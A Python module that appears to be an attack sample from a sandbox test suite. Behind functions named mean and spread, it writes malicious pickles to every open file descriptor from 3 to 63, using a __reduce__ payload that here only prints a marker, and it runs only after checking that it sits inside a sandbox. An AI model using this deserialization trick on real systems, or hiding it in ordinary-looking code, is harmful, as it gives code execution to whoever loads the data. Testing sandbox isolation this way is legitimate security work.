"""Writes pickles that would run code in whoever loads them.

Attacks: A12, C2
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return (print, ("WON: a pickle was loaded",))


def mean(numbers):
    data = pickle.dumps(Payload())
    for number in range(3, 64):
        try:
            os.write(number, struct.pack(">IB", len(data), 2) + data)
        except OSError:
            continue
    return Payload()


spread = mean
